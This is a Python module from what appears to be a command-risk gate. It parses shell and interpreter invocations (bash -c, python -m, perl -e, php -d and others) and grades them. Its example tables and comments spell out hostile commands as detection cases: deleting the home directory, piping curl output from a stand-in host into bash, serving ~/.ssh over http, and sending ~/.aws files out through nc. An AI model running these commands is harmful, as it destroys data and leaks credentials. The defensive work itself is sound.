"""Interpreters: shells, python/node/perl/ruby/…, eval and source, editors, pagers and man with command options,
debuggers, and the shell builtins that run text as code or change what later commands run.

What they run decides: code the splitter can read (a literal `sh -c '…'`, `eval '…'`) is a part of its own, so
the part that holds it says nothing more; a script file is project code (moderate) or code from elsewhere (high),
and a project shell script is read and judged (policy/scripts.py); inline code in another language, code known
only at run time and code piped in are code the gate cannot read (high). Every file a command runs, sources or
loads is recorded (`cmd.run_file` -> facts.runs), so that the whole-line rules see a file the line wrote and
then ran. Options that name an output file are writes, options that name a script or a command run it.
"""
from __future__ import annotations

from wispsh.vocab import places
from wispsh.programs import config_code
from wispsh.programs.inline import INLINE_EXAMPLES, judge_inline
from wispsh.programs.grammar import UNKNOWN, Options
from wispsh.programs.sources import python_startup_files
from wispsh.programs.table import FIRST, OPERANDS, Grammar, On, Program, Row, When, emits, programs, verb
from wispsh.support.lazyre import lazy_re, re
from wispsh.vocab.shells import OTHER_LANGUAGE, SHELLS, SPLIT_AS_SH

PROJECT = (places.PROJECT, places.PROJECT_ROOT)


def stdin_fed(cmd) -> bool:
    """Its standard input is given (a pipe, a redirect, a heredoc), not a person's terminal."""
    part = cmd.part
    if part is None:
        return False
    if part.stdin_code is not None:
        return True
    if part.pipeline is not None and part.stage > 0 or part.origin == ">()":
        return True
    return any(r.op in ("<", "<<", "<<-", "<<<", "<&", "<>") and r.fd in (None, "0") for r in part.redirects)


def _stdin_file(cmd) -> str | None:
    """The file its standard input is redirected from (`ed f < edit.ed`), if one is."""
    for r in cmd.part.redirects if cmd.part is not None else ():
        if r.op == "<" and r.fd in (None, "0"):
            return r.target if r.target is not None else UNKNOWN
    return None


# Where a part is a statement of the line itself (as opposed to a command another program starts).
OWN_STATEMENTS = frozenset({"top", "clause", "subshell", "group", "function", "$()", "``", "sh -c", "eval",
                            "heredoc", "pipe"})


def _code_from_stdin(cmd, prefix: str, shell: bool = False) -> None:
    """No code and no script given: it reads code from its input (a file redirected in is a script it runs), or
    is an interactive session."""
    cmd.facts.stdin_interp = True
    source = _stdin_file(cmd) if cmd.part is not None and cmd.part.stdin_code is None else None
    if source is not None and not source.startswith(UNKNOWN) and not (cmd.part.pipeline is not None
                                                                       and cmd.part.stage > 0):
        cmd.fired.add(f"{prefix}.stdin-file")
        cmd.run_file(source, f"{cmd.name} runs")
        if shell:
            cmd.judge_script(source, f"{cmd.name} runs")
    elif stdin_fed(cmd):
        cmd.does("run-code", f"{prefix}.stdin", f"{cmd.name} runs code from its input")
    elif cmd.part is not None and cmd.part.origin not in OWN_STATEMENTS:
        # `find . -exec /bin/sh \;`, `xargs bash`: a shell another program starts reads commands from
        # whatever its input is (GTFOBins' escape), not from a person at a prompt
        cmd.does("run-code", f"{prefix}.spawned", f"another program starts {cmd.name}, which runs what it reads")
    elif cmd.ctx.stdin_tty:
        cmd.does("session", f"{prefix}.interactive", f"starts an interactive {cmd.name} on the terminal")
    elif _named_by_path(cmd):
        # `env /bin/sh`, `nice /bin/bash`: with no terminal, the commands it runs are whatever the caller's pipe
        # or file holds, and a path passes by the gate's shims on PATH, so the gate never sees them (GTFOBins'
        # shell escapes)
        cmd.does("run-code", f"{prefix}.interactive", f"starts {cmd.name} reading commands from the line's input "
                                                      f"(no terminal): the gate does not see them")
    else:
        # a shell found on PATH is the gate's shim where wispsh is installed as bash/sh (and every shell under
        # `wisp run`): what it reads is judged there, line by line
        cmd.does("session", f"{prefix}.interactive", f"starts {cmd.name}, which reads commands from its input")


def _named_by_path(cmd) -> bool:
    """Whether the shell is started by a path (`/bin/sh`, `./bash`), not by a name looked up on PATH; or by
    another program from words its rule built (run-parts' pick), which the shims need not stand in for."""
    if cmd.delegated:
        return True
    words = cmd.part.words if cmd.part is not None else ()
    return any(w and "/" in w and w.rsplit("/", 1)[-1] == cmd.name for w in words)


def _script(cmd, word: str, prefix: str, what: str, shell: bool = False) -> None:
    """A script operand: known only at run time (`bash "$S"`, `bash <(…)`), else a file it runs."""
    if word.startswith(UNKNOWN):
        cmd.facts.runtime_code = True
        cmd.does("run-code", f"{prefix}.script-runtime", f"{cmd.name} runs a script known only at run time")
        return
    cmd.fired.add(f"{prefix}.script")
    cmd.run_file(word, what)
    if shell:
        cmd.judge_script(word, what)


# `"$(cat x.sh)"`, `"$(< x.sh)"`, `` `cat x.sh` ``, `<(cat x.sh)`: a word whose text is a file's.
_FILE_TEXT = lazy_re(r"""^"?(?:[$<]\(\s*(?:cat\s+(?:--\s+)?|<\s*)|`\s*cat\s+)([^\s()`;&|<>"']+)\s*[)`]"?$""")


def _runs_file_text(cmd, what: str) -> bool:
    """The code is a file's text put in at run time (`bash -c "$(cat x.sh)"`, `eval "$(cat x)"`): the file runs
    (facts.runs), and a project shell script is read and judged as if it were run."""
    for written in cmd.part.words if cmd.part is not None else ():
        m = _FILE_TEXT.match(written)
        if m:
            word = cmd.place(m.group(1)).path if not m.group(1).startswith("$") else UNKNOWN
            cmd.fired.add("code.file-text")
            cmd.run_file(word, what)
            cmd.judge_script(word, what)
            return True
    return False


# Fired when a shell or eval judged the code the line's own variables made: the splitter, which saw only the
# expansion, marked the part opaque; the engine drops that finding once the code is read.
LINE_VARIABLES_CODE = "code.line-variables"

# ---------------------------------------------------------------- shells


# Options that turn noexec on (`-n`, `-o noexec`) or off (`+n`, `+o noexec`): the shell reads its code, checks
# the syntax and runs none of it (nor $BASH_ENV); the last one given wins. An interactive shell (-i) is a session.
NOEXEC_LONG = frozenset({"--noexec", "--no-exec", "--no-execute"})


def read_shell_words(args, init: list | None = None) -> tuple[bool, list, bool, bool, list]:
    """sh's own reading of its words (getopt cannot: `+o NAME`, `-` ending the options, -c taking the first
    operand): (takes -c code, operands, -s reads stdin, -n parses only, rc files it sources). fish's
    -C/--init-command CODE go to `init`."""
    code = reads_stdin = parse_only = interactive = False
    rcfiles: list[str] = []
    i, n = 0, len(args)
    while i < n:
        arg = args[i]
        if arg in NOEXEC_LONG:
            parse_only = True
            i += 1
            continue
        if arg in ("--rcfile", "--init-file", "-rcfile", "-init-file"):
            if i + 1 < n:
                rcfiles.append(args[i + 1])
            i += 2
            continue
        if init is not None and (arg in ("-C", "--init-command") or arg.startswith("--init-command=")):
            if "=" in arg:
                init.append(arg.split("=", 1)[1])
            elif i + 1 < n:
                init.append(args[i + 1])
            i += 1 if "=" in arg else 2
            continue
        if arg in ("--", "-"):
            i += 1
            break
        if arg.startswith("--"):
            i += 1
            continue
        if arg[:1] in ("-", "+") and len(arg) > 1 and UNKNOWN not in arg:
            letters = arg[1:]
            code = code or "c" in letters
            reads_stdin = reads_stdin or "s" in letters
            interactive = interactive or arg[0] == "-" and "i" in letters
            if "n" in letters:
                parse_only = arg[0] == "-"
            names = [args[i + 1 + k] for k, ch in enumerate(ch for ch in letters if ch in "oO") if i + 1 + k < n]
            if "o" in letters and "noexec" in names:
                parse_only = arg[0] == "-"
            i += 1 + sum(1 for ch in letters if ch in "oO")    # -o NAME / +O NAME take the next word
            continue
        break
    return code, list(args[i:]), reads_stdin, parse_only and not interactive, rcfiles


@emits({"sh.rcfile": ["bash --rcfile ~/.evil -i"],
        "sh.code-input": ["bash -c", "echo x | xargs sh -c"],
        "sh.code-runtime": ['bash -c "$X"'],
        "code.file-text": ['bash -c "$(cat x.sh)"'],
        "sh.code-unsplit": ["tcsh -c 'rm -rf ~'", "nix develop -c bash -c 'ls'"],
        "sh.code-other-language": ["xonsh -c 'import os'"],
        "sh.parse-only": ["bash -n script.sh", "sh -n ./configure", "bash -n -c 'rm -rf ~'",
                          "bash -n <<< 'rm -rf ~'", "zsh -o noexec x.zsh"],
        "sh.script": ["bash script.sh", "sh ./configure", "bash /tmp/x.sh"],
        "sh.script-runtime": ['bash "$S"', "bash <(curl -s https://x.example)"],
        "sh.stdin": ["echo ls | bash", "bash <<< 'ls'"], "sh.stdin-file": ["bash -s < x.sh", "sh < /tmp/x"],
        "sh.interactive": ["bash", "zsh -l"], "sh.spawned": ["find . -maxdepth 0 -exec /bin/sh \\;"],
        "sh.init-command": ["fish -C 'rm -rf ~' x.fish"],
        "sh.init-command-runtime": ['fish --init-command="$X"']})
def shell_line(cmd, o: Options) -> None:
    """A shell: -c CODE, a script file (read and judged when it is the project's), or code from its input."""
    cmd.facts.interp = True
    init: list[str] = []
    code, operands, reads_stdin, parse_only, rcfiles = read_shell_words(o.args, init if cmd.name == "fish" else None)
    for rcfile in rcfiles:
        cmd.fired.add("sh.rcfile")
        cmd.run_file(rcfile, "sources")
    for text in init:       # fish -C CODE runs before anything else (the splitter reads only -c)
        if UNKNOWN in text:
            cmd.facts.runtime_code = True
            cmd.does("run-code", "sh.init-command-runtime", f"{cmd.name} -C runs code known only at run time")
        else:
            cmd.fired.add("sh.init-command")
            cmd.code_text(text, f"{cmd.name} -C")
    if parse_only and (code or operands or stdin_fed(cmd)):
        cmd.fired.add("sh.parse-only")      # -n reads commands but runs none (not even $BASH_ENV)
        for word in operands[:1] if not code else ():
            cmd.read(word, "parses")
        return
    if code:
        text = operands[0] if operands else ""
        if cmd.via_xargs or not operands:
            cmd.facts.runtime_code = True
            cmd.does("run-code", "sh.code-input", f"{cmd.name} -c runs code from its input")
            if cmd.via_xargs and cmd.xargs_word is None and operands and UNKNOWN not in text:
                # `ls ~/.aws/* | xargs -I{} sh -c 'cat {} | nc …'`: {} filled with the names the stage before prints
                cmd.code_text(text, f"{cmd.name} -c, for each name xargs is given")
        elif UNKNOWN in text:
            cmd.facts.runtime_code = True
            cmd.does("run-code", "sh.code-runtime", f"{cmd.name} -c runs code known only at run time")
            _runs_file_text(cmd, f"{cmd.name} -c runs the text of")
        elif cmd.name not in SPLIT_AS_SH or cmd.delegated or not cmd.splitter_saw(text):
            # the splitter did not make parts of it (another shell's, handed on, or the line's own variables
            # made it: `c='curl … | sh'; bash -c "$c"`): judge it here (read as sh, the nearest the gate has)
            if cmd.name in OTHER_LANGUAGE:
                cmd.does("run-code", "sh.code-other-language", f"{cmd.name} -c runs code in {cmd.name}'s language")
            cmd.fired.add("sh.code-unsplit")
            if cmd.name in SPLIT_AS_SH and not cmd.delegated:
                cmd.fired.add(LINE_VARIABLES_CODE)
            cmd.code_text(text, f"{cmd.name} -c")
        return      # else: a literal command line, split into parts of its own and judged there
    if operands and not reads_stdin:
        _script(cmd, operands[0], "sh", f"{cmd.name} runs", shell=cmd.name not in OTHER_LANGUAGE)
        return
    _code_from_stdin(cmd, "sh", shell=cmd.name not in OTHER_LANGUAGE)


SHELL_PROGRAMS = tuple(Program(name, doc=f"{name}: a shell; -c CODE, a script file, or code from its input",
                               hook=shell_line) for name in sorted(SHELLS))

# ---------------------------------------------------------------- python

PYTHON_VALUES = "cmWXQ"
VERSION_WORDS = frozenset({"--version", "-V", "--help", "-h", "-VV", "-v", "version"})
# python -m MODULE: modules that only print; that check or lint files; that are other tools (judged as them)
SAFE_MODULES = frozenset({"json.tool", "this", "platform", "sysconfig", "site", "tabnanny", "calendar", "tokenize",
                          "pyclbr", "dis", "ast", "symtable", "sqlite3.dump", "uuid", "locale", "encodings"})
CHECK_MODULES = frozenset({"py_compile", "compileall", "pyflakes", "pycodestyle", "pydocstyle", "vulture", "pyre",
                           "unittest.mock"})
FORMAT_CHECK = {"black": ("check", "diff"), "isort": ("check-only", "check", "c", "diff"), "autopep8": ("diff", "d"),
                "yapf": ("diff", "d"), "ruff": ()}
TOOL_MODULES = {"pip": "pip", "pip3": "pip", "uv": "uv", "pipx": "pipx", "poetry": "poetry", "twine": "twine",
                "conda": "conda", "pdm": "pdm", "hatch": "hatch", "pytest": "pytest", "tox": "tox", "nox": "nox",
                # checkers whose tables know their write options (codespell -w, mypy --install-types, -o FILE)
                "codespell": "codespell", "mypy": "mypy", "flake8": "flake8", "pylint": "pylint",
                "pyright": "pyright", "bandit": "bandit"}
SCRIPT_MODULES = frozenset({"pdb", "cProfile", "profile", "trace", "runpy"})    # they run the script they are given
CODE_MODULES = frozenset({"timeit"})        # their operands are python statements
MODULE_NAME = lazy_re(r"^[A-Za-z_][A-Za-z0-9_]*(\.[A-Za-z_][A-Za-z0-9_]*)*$")


def read_python_words(args) -> tuple[str, str | None, list]:
    """python's own reading: -c CODE and -m MODULE end its options. (how, value, rest): how is "version",
    "code", "module" or "operands"."""
    i, n = 0, len(args)
    while i < n:
        arg = args[i]
        if arg == "--":
            i += 1
            break
        if arg == "-" or not arg.startswith("-"):
            break
        if arg in VERSION_WORDS and all(a in VERSION_WORDS for a in args):
            return "version", None, []
        letters = arg[1:] if not arg.startswith("--") else ""
        hit = next((ch for ch in letters if ch in PYTHON_VALUES), None)
        if hit:
            rest = letters[letters.index(hit) + 1:]
            value = rest or (args[i + 1] if i + 1 < n else "")
            i += 1 if rest else 2
            if hit == "c":
                return "code", value, list(args[i:])
            if hit == "m":
                return "module", value, list(args[i:])
            continue
        i += 2 if arg == "--check-hash-based-pycs" else 1
    return "operands", None, list(args[i:])


@emits({**INLINE_EXAMPLES, "python.version": ["python3 -V"],
        "python.inline": ["python3 -c 'print(1)'", 'python -c "$X"'],
        "python.script": ["python3 x.py", "python3 /tmp/x.py"], "python.script-runtime": ['python3 "$S"'],
        "python.stdin": ["echo 'print(1)' | python3"], "python.interactive": ["python3"],
        "python.stdin-file": ["python3 < x.py"], "serve.secret": ["python3 -m http.server -d ~/.ssh"],
        "serve.project": ["python3 -m http.server 8000"],
        "python.module-tool": ["python3 -m pip install requests"], "python.module-safe": ["python3 -m json.tool f"],
        "python.module-check": ["python3 -m py_compile src/a.py", "python3 -m pyflakes src"],
        "python.module-format": ["python3 -m black src"],
        "python.module-format-check": ["python3 -m black --check src", "python3 -m ruff check ."],
        "python.module-code": ["python3 -m timeit 'x = 1'"],
        "python.module-script": ["python3 -m cProfile -o out.prof x.py"],
        "python.module-archive": ["python3 -m zipfile -e a.zip out"],
        "python.module-runtime": ['python3 -m "$M"'],
        "python.serves": ["python3 -m http.server 8000"],
        "python.module": ["python3 -m mypkg.cli", "python3 -m unittest discover"],
        "python.module-build": ["python3 -m build", "python3 -m build --wheel /tmp/x"],
        "python.pycache-prefix": ["python3 -X pycache_prefix=/tmp/c x.py"]})
def python_line(cmd, o: Options) -> None:
    """python: -c CODE (inline, unread), -m MODULE (judged by what the module is), a script file, or stdin."""
    cmd.facts.interp = True
    cmd.facts.runs.extend(python_startup_files(cmd))
    how, value, rest = read_python_words(o.args)
    if how == "version":
        cmd.fired.add("python.version")
    elif how == "code":
        if UNKNOWN in value:
            cmd.facts.runtime_code = True
        cmd.facts.stdin_interp = stdin_fed(cmd)     # inline code may exec() what is piped in
        cmd.does("run-code", "python.inline", f"{cmd.name} -c runs inline code")
        judge_inline(cmd, value, "python")          # what the code visibly does can make it worse
    elif how == "module":
        _python_module(cmd, value, rest)
    elif rest and rest[0] != "-":
        _script(cmd, rest[0], "python", f"{cmd.name} runs")
    else:
        _code_from_stdin(cmd, "python")
    for option in _python_x_options(o.args):
        if option.startswith("pycache_prefix="):
            cmd.fired.add("python.pycache-prefix")
            cmd.write(option.split("=", 1)[1], "python writes compiled modules under")


def _python_x_options(args) -> list[str]:
    """The values of -X options before the script or -c/-m (`-X pycache_prefix=DIR`)."""
    found = []
    for k, word in enumerate(args):
        if word == "-X" and k + 1 < len(args):
            found.append(args[k + 1])
        elif word.startswith("-X") and len(word) > 2:
            found.append(word[2:])
        elif not word.startswith("-") or word in ("-c", "-m") or word.startswith(("-c", "-m")):
            break
    return found


def _python_module(cmd, module: str, rest: list[str]) -> None:
    if UNKNOWN in module:
        cmd.facts.runtime_code = True
        cmd.does("run-code", "python.module-runtime", f"{cmd.name} -m runs a module known only at run time")
        return
    operands = [w for w in rest if not w.startswith("-")]
    if module in TOOL_MODULES:
        cmd.fired.add("python.module-tool")
        cmd.delegate_to = [TOOL_MODULES[module], *rest]     # python -m pip … is pip …
    elif module in SAFE_MODULES:
        cmd.fired.add("python.module-safe")
        for word in operands:
            cmd.read(word)
    elif module in CHECK_MODULES:
        cmd.fired.add("python.module-check")
        for word in operands:
            cmd.read(word, "checks")
    elif module in FORMAT_CHECK:
        _formatter(cmd, module, rest, operands)
    elif module in CODE_MODULES:
        cmd.does("run-code", "python.module-code", f"python -m {module} runs the statements it is given")
    elif module in SCRIPT_MODULES:
        cmd.does("run-project", "python.module-script", f"runs a script under python -m {module}")
        words = list(rest)
        while words and words[0].startswith("-"):
            option = words.pop(0)
            if option in ("-o", "-s", "-m", "--outfile", "--file", "-c") and words:
                value = words.pop(0)
                if option in ("-o", "--outfile", "--file"):
                    cmd.write(value, f"python -m {module} writes")
        if words and words[0] != "-":
            cmd.run_file(words[0], f"python -m {module} runs")
    elif module in ("zipfile", "tarfile"):
        _archive_module(cmd, module, rest)
    elif module == "build":
        # `python -m build [SRCDIR]`: the source tree's build backend runs (setup.py, an in-tree backend)
        o = Grammar(values="oC", long_values=("outdir", "config-setting", "installer")).read(rest)
        cmd.does("run-project", "python.module-build", "python -m build runs the build backend of the source tree")
        cmd.build_in((o.operands or ["."])[0], "python -m build")
    elif module == "http.server":
        o = Grammar(values="db", long_values=("directory", "bind", "protocol")).read(rest)
        cmd.fired.add("python.serves")
        serve(cmd, o.value("d", "directory") or ".", "python -m http.server")
    else:
        cmd.does("run-project", "python.module", f"runs python module {module}")
        if MODULE_NAME.match(module):
            # a module of the project runs (and so does what a line wrote there before): for write-then-run
            base = cmd.place(module.replace(".", "/")).path
            cmd.facts.runs.extend((base + ".py", base + "/__main__.py", base + "/"))


def _formatter(cmd, module: str, rest: list[str], operands: list[str]) -> None:
    """black/isort/ruff …: a check or diff only reads; otherwise the files are rewritten."""
    o = Grammar(long_values=("config", "line-length", "target-version", "include", "exclude", "select", "ignore")
                ).read(rest)
    words = list(o.operands)
    if module == "ruff":
        verb_word = words.pop(0) if words else "check"
        checks = verb_word == "check" and not o.has("fix", "unsafe-fixes") or verb_word == "format" and o.has(
            "check", "diff") or verb_word not in ("check", "format")
    else:
        checks = o.has(*FORMAT_CHECK[module])
    if checks:
        cmd.fired.add("python.module-format-check")
        for word in words:
            cmd.read(word, "checks")
        return
    cmd.does("change", "python.module-format", f"python -m {module} rewrites files")
    for word in words or ["."]:
        cmd.write(word, f"python -m {module} rewrites")


def _archive_module(cmd, module: str, rest: list[str]) -> None:
    """python -m zipfile/tarfile -e ARCHIVE DIR extracts into DIR; -c ARCHIVE FILES… writes ARCHIVE."""
    cmd.does("change", "python.module-archive", f"python -m {module} reads or writes an archive")
    words = list(rest)
    if words[:1] in (["-e"], ["--extract"]) and len(words) >= 3:
        cmd.read(words[1])
        cmd.write(words[2], "extracts into")
    elif words[:1] in (["-c"], ["--create"]) and len(words) >= 2:
        cmd.write(words[1])
        for word in words[2:]:
            cmd.read(word, "archives")
    else:
        for word in words[1:]:
            cmd.read(word)


def serve(cmd, directory: str, who: str) -> None:
    """A file server: the project (or a temp dir) is a dev server; anything else is opened to the network, and a
    directory of secrets is leaked."""
    cmd.facts.interp = True
    where = cmd.place(directory)
    if where.cls in places.SECRET_CLASSES or where.cls in (places.DOTFILE, places.WISP, places.WISP_KEY):
        cmd.does("leak", "serve.secret", f"{who} serves {where.path} ({where.cls}) over http")
    elif where.cls not in PROJECT + (places.TEMP,):
        cmd.does("expose", "serve.outside", f"{who} serves {where.path} ({where.cls}) over http")
    else:
        cmd.does("serve", "serve.project", f"{who} serves the project's files over http")


PYTHON = Program("python", aliases=("python2", "python3", "pypy", "pypy3"),
                 doc="python: -c CODE, -m MODULE, a script, or code from its input", hook=python_line,
                 examples={"python3 -m pytest": "moderate", "python3 -c 'print(1)'": "high", "python3 x.py": "moderate",
                           "python3 -m http.server -d ~/.ssh": "dangerous", "python3 -m py_compile src/a.py": "safe"})

# ---------------------------------------------------------------- node, perl, ruby, php, lua, …

LOAD_PATH = lazy_re(r"^(\.{0,2}/|~)|\.(m?js|cjs|ts|mts|cts|so|pl|pm|rb)$")

# A perl one-liner that is nothing but substitutions (`s/a/b/g`, `tr/a-z/A-Z/`) is sed: no `e` flag, no
# `@{[…]}`/`${\…}` interpolation, no regex code blocks, no backticks.
_PERL_SUBST = lazy_re(r"\s*(?:(?:s|tr|y)([/|#,!:%])(?:\\.|(?!\1).)*\1(?:\\.|(?!\1).)*\1[gimsxrcdnu]*\s*;?\s*)+",
                      re.S)
_PERL_CODE_IN_SUBST = lazy_re(r"[@$]\{|\(\?\??\{|`|\$\(|\$\$")


def _plain_substitution(code: str) -> bool:
    m = _PERL_SUBST.fullmatch(code)
    return m is not None and not _PERL_CODE_IN_SUBST.search(code) and UNKNOWN not in code


class Inline:
    """How an interpreter is given code: options whose value is code, a script file, a module to load first,
    the option that makes it edit its files in place, and options that only check the syntax."""

    __slots__ = ("code", "files", "loads", "in_place", "check")

    def __init__(self, code=(), files=(), loads=(), in_place: str = "", check=()):
        self.code, self.files, self.loads, self.in_place, self.check = code, files, loads, in_place, check


def _inline_hook(name: str, spec: Inline, flag: str):
    """The hook of one interpreter (`name`): inline code, modules it loads, script files, in-place edits. Its
    rule ids are the lower-cased name's (`r.inline` for R)."""
    program, name = name, name.lower()
    examples = {f"{name}.inline": [f"{program} {flag} 'x'"], f"{name}.script": [f"{program} x"],
                f"{name}.script-runtime": [f'{program} "$S"'], f"{name}.stdin": [f"echo x | {program}"],
                f"{name}.interactive": [program]}
    if spec.loads:
        examples[f"{name}.loads"] = [f"{program} -{spec.loads[0]} /tmp/x app"]
        examples[f"{name}.loads-module"] = [f"{program} -{spec.loads[0]} mod app"]
    if spec.files:
        examples[f"{name}.script-option"] = [f"{program} -{spec.files[0]} x"]
    examples[f"{name}.stdin-file"] = [f"{program} < x"]
    if spec.in_place:
        examples[f"{name}.edits"] = [f"{program} -{spec.in_place} -pe 'x' f.txt"]
    if name == "perl":
        examples["perl.substitutes"] = ["perl -pi -e 's/a/b/g' f.txt"]

    @emits(examples)
    def hook(cmd, o: Options) -> None:
        if f"{name}.check" in cmd.fired:
            return      # a syntax check reads its files and runs nothing
        cmd.facts.interp = True
        edits = bool(spec.in_place) and o.has(spec.in_place)
        codes = [value for option in spec.code for value in o.all(option)]
        if codes:
            for word in o.operands:     # with inline code, the operands are the files it reads (or edits)
                if edits:
                    cmd.fired.add(f"{name}.edits")
                    cmd.write(word, f"{program} -{spec.in_place} edits")
                else:
                    cmd.read(word)
            if name == "perl" and all(_plain_substitution(code) for code in codes) and not o.all("M", "m", "I") \
                    and not o.has("d", "M", "m", "I"):
                cmd.fired.add("perl.substitutes")
                return      # sed in perl's spelling: judged by the files it reads or edits
            if any(UNKNOWN in code for code in codes):
                cmd.facts.runtime_code = True
            cmd.facts.stdin_interp = stdin_fed(cmd)
            cmd.does("run-code", f"{name}.inline", f"{program} runs inline code")
            for code in codes:
                judge_inline(cmd, code, program)   # what the code visibly does can make it worse
            return
        for option in spec.loads:
            for value in o.all(option):
                if LOAD_PATH.search(value) or UNKNOWN in value:
                    cmd.fired.add(f"{name}.loads")
                    cmd.run_file(value, f"{program} loads")
                else:   # an installed module (`node -r dotenv/config`, `ruby -rjson`): the project's own
                    cmd.does("run-project", f"{name}.loads-module", f"{program} loads the installed module {value}")
        for option in spec.files:
            for value in o.all(option):
                cmd.fired.add(f"{name}.script-option")
                cmd.run_file(value, f"{program} runs")
                return
        operands = o.operands
        if operands and operands[0] != "-":
            _script(cmd, operands[0], name, f"{program} runs")
            for word in operands[1:] if edits else ():
                cmd.fired.add(f"{name}.edits")
                cmd.write(word, f"{program} -{spec.in_place} edits")
            return
        _code_from_stdin(cmd, name)

    hook.__name__ = hook.__qualname__ = f"{name.replace('-', '_')}_line"
    hook.__doc__ = f"{program}: inline code is high, a project script moderate, code from its input high."
    return hook


def interpreter(name: str, *, grammar: Grammar, spec: Inline, flag: str, aliases=(), rows=(), on=(),
                doc: str = "", examples=None) -> Program:
    """An interpreter described by how it is given code (Inline); --version and syntax checks only read."""
    rid = name.lower()      # rule ids are lower case (R's are r.*)
    version = Row(f"{rid}.version", "nothing", "{cmd} prints its version",
                  When(flag=tuple(w.lstrip("-") for w in VERSION_WORDS), operands=False,
                       no_value=spec.code + spec.files + spec.loads), stop=True, examples=(f"{name} -h",))
    check = (Row(f"{rid}.check", "nothing", "{cmd} only checks the syntax", When(flag=spec.check, no_value=spec.code),
                 examples=(f"{name} -{spec.check[0]} x",)),) if spec.check else ()
    check_reads = (On("read", OPERANDS, when=When(flag=spec.check, no_value=spec.code), id=f"{rid}.check-reads",
                      says="checks", examples=(f"{name} -{spec.check[0]} x",)),) if spec.check else ()
    return Program(name, aliases=aliases, doc=doc or f"{name}: inline code, a script, or code from its input",
                   grammar=grammar, rows=(version,) + tuple(rows) + check, on=check_reads + tuple(on),
                   hook=_inline_hook(name, spec, flag), examples=examples)


NODE = interpreter(
    "node", aliases=("nodejs",), flag="-e",
    grammar=Grammar(values="eprC", long_values=("eval", "print", "require", "import", "loader", "experimental-loader",
                                                "conditions", "env-file", "input-type", "inspect-port", "title",
                                                "redirect-warnings", "cpu-prof-dir", "heap-prof-dir",
                                                "diagnostic-dir", "report-dir", "test-reporter-destination",
                                                "openssl-config"),
                    longs=("check", "test", "watch", "inspect", "inspect-brk", "version", "help")),
    spec=Inline(code=("e", "eval", "p", "print"), loads=("r", "require", "import", "loader", "experimental-loader"),
                check=("c", "check")),
    rows=(Row("node.inspect-open", "expose", "node --inspect listens for a debugger on the network (it runs any "
                                            "code it is sent)",
              When(arg=tuple(f"--{o}={h}" for o in ("inspect", "inspect-brk", "inspect-wait")
                             for h in ("0.0.0.0", "[::]", "::", "*"))),
              examples=("node --inspect=0.0.0.0:9229 app.js",)),),
    on=(On("write", ("option", "redirect-warnings", "cpu-prof-dir", "heap-prof-dir", "diagnostic-dir", "report-dir",
                     "test-reporter-destination"), id="node.output", says="node writes",
           examples=("node --redirect-warnings=~/.bashrc app.js",)),
        On("run", ("option", "openssl-config"), id="node.openssl-config", says="node loads the OpenSSL config "
                                                                             "(its engines are programs)",
           examples=("node --openssl-config=/tmp/o.cnf app.js",))),
    examples={"node -r dotenv/config app.js": "moderate", "node --require /tmp/x.js app.js": "high",
              "node --check x.js": "safe", "node -e 'x'": "high"},
)
PERL = interpreter(
    "perl", flag="-e",
    # -i, -l, -0, -x and -C take only an attached value (`-i.bak`, `-l0`): never the next word
    grammar=Grammar(values="eEIMm"),
    spec=Inline(code=("e", "E"), loads=("M", "m"), in_place="i"),
    examples={"perl -pi -e 's/a/b/g' ~/.bashrc": "dangerous", "perl -pe 's/a/`id`/e' f": "high"},
)
RUBY = interpreter(
    "ruby", flag="-e", grammar=Grammar(values="erIECFK", long_values=("encoding",)),
    spec=Inline(code=("e",), loads=("r",), in_place="i", check=("c",)),
)


def php_settings(cmd, o: Options) -> None:
    """php -d KEY=VALUE: settings that load code (auto_prepend_file, extension) or run a program (sendmail_path)."""
    for setting in o.all("d"):
        key = setting.partition("=")[0].strip()
        if key in PHP_CODE_SETTINGS:
            cmd.does("run-code", "php.setting", f"php -d {key}=… makes php load code or run a program")


def php_server(cmd, o: Options):
    """php -S ADDR [-t DOCROOT]: the built-in web server serves DOCROOT (and runs its PHP)."""
    if "-S" not in o.args:
        return None
    cmd.fired.add("php.serves")
    serve(cmd, Grammar(values="Stcd").read(o.args).value("t") or ".", "php -S")
    return False


PHP_CODE_SETTINGS = ("auto_prepend_file", "auto_append_file", "extension", "zend_extension", "extension_dir",
                     "include_path", "open_basedir", "disable_functions", "sendmail_path", "error_log")
PHP = interpreter("php", flag="-r", grammar=Grammar(values="rBREFfcdzt"),
                  spec=Inline(code=("r", "B", "R", "E", "F"), files=("f",), check=("l",)),
                  on=(On("run", ("option", "c", "z"), id="php.ini", says="php loads its settings (or an extension) "
                                                                         "from",
                         examples=("php -c /tmp/php.ini x.php",)),))
PHP_HOOK = PHP.hook


@emits(dict(PHP_HOOK.emits, **{"php.serves": ["php -S localhost:8000"], "serve.outside": ["php -S 0.0.0.0:80 -t ~"],
                                "php.setting": ["php -d auto_prepend_file=/tmp/x.php x.php"]}))
def php_line(cmd, o: Options) -> None:
    """php: the built-in server (-S), else an interpreter; -d settings that load code."""
    php_settings(cmd, o)
    if php_server(cmd, o) is not False:
        PHP_HOOK(cmd, o)


PHP.hook = php_line
LUA = interpreter("lua", aliases=("luajit",), flag="-e", grammar=Grammar(values="elW"), spec=Inline(code=("e",)))

# Interpreters whose inline code option is -e/-c/--eval (Rscript, julia, osascript, tclsh, expect -c, …).
GENERIC_INLINE = Inline(code=("e", "c", "eval", "E", "Command", "command", "C"), files=("f", "File", "file"))
GENERIC_GRAMMAR = Grammar(values="ecfECF", long_values=("eval", "Command", "command", "File", "file"))
GENERIC = tuple(interpreter(name, flag="-e", grammar=GENERIC_GRAMMAR, spec=GENERIC_INLINE)
                for name in ("Rscript", "julia", "osascript", "tclsh", "wish", "expect", "groovy", "scala", "kotlin",
                             "jshell", "irb", "guile", "racket", "sbcl", "dc", "slsh", "jrunscript", "jjs",
                             # GTFOBins' shell and file-write: R -e, octave --eval, gnuplot -e, ghc -e, bpftrace -e,
                             # and m4, whose input's esyscmd() runs commands
                             "R", "octave", "octave-cli", "gnuplot", "ghc", "runghc", "runhaskell", "bpftrace", "m4",
                             "gm4"))

CLISP = interpreter("clisp", flag="-x", grammar=Grammar(values="xBMmLNEpic"), spec=Inline(code=("x",)))

# AppleScript (and JXA) asking for an administrator's password runs its shell script as root; the script of
# `do shell script "…"` is shell code the gate can read.
OSA_ADMIN = lazy_re(r"with\s+administrator\s+privileges|administratorPrivileges\s*:\s*true", re.I)
OSA_SHELL = lazy_re(r"""do\s+shell\s+script\s+"((?:[^"\\]|\\.)*)"|doShellScript\(\s*(["'])((?:(?!\2)[^\\]|\\.)*)\2""",
                    re.I)
